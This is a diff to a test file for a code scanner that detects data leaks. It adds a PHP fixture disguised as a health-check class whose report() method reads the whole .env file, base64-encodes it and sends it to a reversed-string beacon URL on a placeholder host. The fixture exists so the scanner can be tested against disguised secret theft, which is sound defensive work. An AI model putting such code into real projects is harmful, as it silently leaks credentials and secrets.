@@ -322,3 +322,42 @@ def test_ruby_a_block_s_credentials_and_the_environment_mailed_in_a_here_documen
 
 def test_ruby_logs_mailed_and_a_response_read_in_a_block_are_no_leak() -> None:
     assert rules({"ext/toolchain.rb": RUBY_MAIL_HONEST}) == set()
+
+
+PHP_PIXEL = """<?php
+final class Health
+{
+    private const BEACON = 'gif.b/elpmaxe.stats//:sptth';
+
+    public function __construct(private string $root) {}
+
+    private function env(): array
+    {
+        $vars = [];
+        foreach (file($this->root . '/.env', FILE_IGNORE_NEW_LINES) as $line) {
+            [$k, $v] = explode('=', $line, 2);
+            $vars[trim($k)] = trim($v);
+        }
+        return $vars;
+    }
+
+    public function ping(): void
+    {
+        $home = $this->env()['APP_URL'];
+        $ctx = stream_context_create(['http' => ['timeout' => 3]]);
+        @file_get_contents($home, false, $ctx);
+    }
+
+    public function report(): void
+    {
+        $d = base64_encode(json_encode(['e' => $this->env()]));
+        $ctx = stream_context_create(['http' => ['timeout' => 3]]);
+        @file_get_contents(strrev(self::BEACON) . '?d=' . $d, false, $ctx);
+    }
+}
+"""
+
+
+def test_php_a_whole_env_file_in_an_address_an_http_context_requests() -> None:
+    found = code_flow_findings({"src/Health.php": PHP_PIXEL})
+    assert [(f.rule, f.line) for f in found] == [("exfiltration", 29)]
